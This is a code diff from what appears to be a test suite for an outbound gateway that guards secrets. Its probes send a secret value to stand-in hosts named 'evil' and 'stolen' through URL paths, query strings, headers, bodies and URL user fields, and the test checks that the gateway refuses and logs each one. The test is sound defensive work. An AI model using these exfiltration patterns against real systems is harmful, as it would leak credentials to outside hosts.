@@ -118,7 +118,7 @@ async function checkAudit({ guarded }: SecretsGiven): Promise<Finding> {
   // That something was refused for want of a log is written as soon as there is one.
   const told = await log.wait(({ reason }) => reason === "audit", 1);
   const evidence = [
-    ...(wasRefused === true ? [] : ["requests went on for ten seconds"]),
+    ...(wasRefused === true ? [] : ["requests went on without a log"]),
     ...refused,
     ...leaks,
   ];
@@ -136,7 +136,7 @@ async function checkWords({ guarded, secrets }: SecretsGiven): Promise<Finding> 
   const log = await openAudit(guarded);
   guarded.internet.script(SITE.stolen, { answers: [[decoy]] });
   const bearer = '-H "authorization: Bearer $PROBE_KEY"';
-  const probes = [
+  const refused = [
     curl("an unlisted host's path", [`http://${SITE.evil}/${value}/x`]),
     curl("an unlisted host's query", [`http://${SITE.evil}/?x=${value}`]),
     curl("a path", [`https://${SITE.opened}/${value}/x`]),
@@ -145,16 +145,16 @@ async function checkWords({ guarded, secrets }: SecretsGiven): Promise<Finding> 
     curl("a header's name", ["-H", `${value}: x`, `https://${SITE.opened}/`]),
     curl("a body", ["-d", value, `https://${SITE.opened}/`]),
     curl("a user", [`http://${value}@${SITE.closed}/`]),
+  ];
+  const outcomes = await guarded.probe([
+    ...refused,
     // The value was put in, or would have been, when something went wrong behind the gateway.
     ask("a wrong certificate", `${bearer} "https://${BAD_CERTIFICATES.expired}/?x=$PROBE_KEY"`),
     ask("a stolen address", `${bearer} "https://${SITE.stolen}/?x=$PROBE_KEY"`),
-  ];
-  const outcomes = await guarded.probe([
-    ...probes,
     ask("an answer that breaks off", `-i ${bearer} "https://${SITE.own}/reset?x=$PROBE_KEY"`),
   ]);
   guarded.internet.script(SITE.stolen, { answers: [[echo]] });
-  const lines = await log.wait(({ decision }) => decision === "deny", probes.length);
+  const lines = await log.wait(({ decision }) => decision === "deny", refused.length);
   const evidence = [
     ...outcomes.all.flatMap(({ id, data, stderr = "" }) =>
       listValuesIn(data + stderr, secrets).map((what) => `${what}, in the answer to ${id}`)
@@ -164,10 +164,10 @@ async function checkWords({ guarded, secrets }: SecretsGiven): Promise<Finding> 
         .map((what) => `${what}, in a line of the log (${line.reason})`)
     ),
   ];
-  const told = probes.filter(({ id }) => isDenied(outcomes.get(id).data));
+  const told = refused.filter(({ id }) => isDenied(outcomes.get(id).data));
   return {
     held: evidence.length === 0,
-    control: told.length === probes.length && lines.length >= probes.length,
+    control: told.length === refused.length && lines.length >= refused.length,
     seen:
       `${outcomes.all.length} answers of the gateway and ${lines.length} lines of its log, 0 values`,
     evidence,
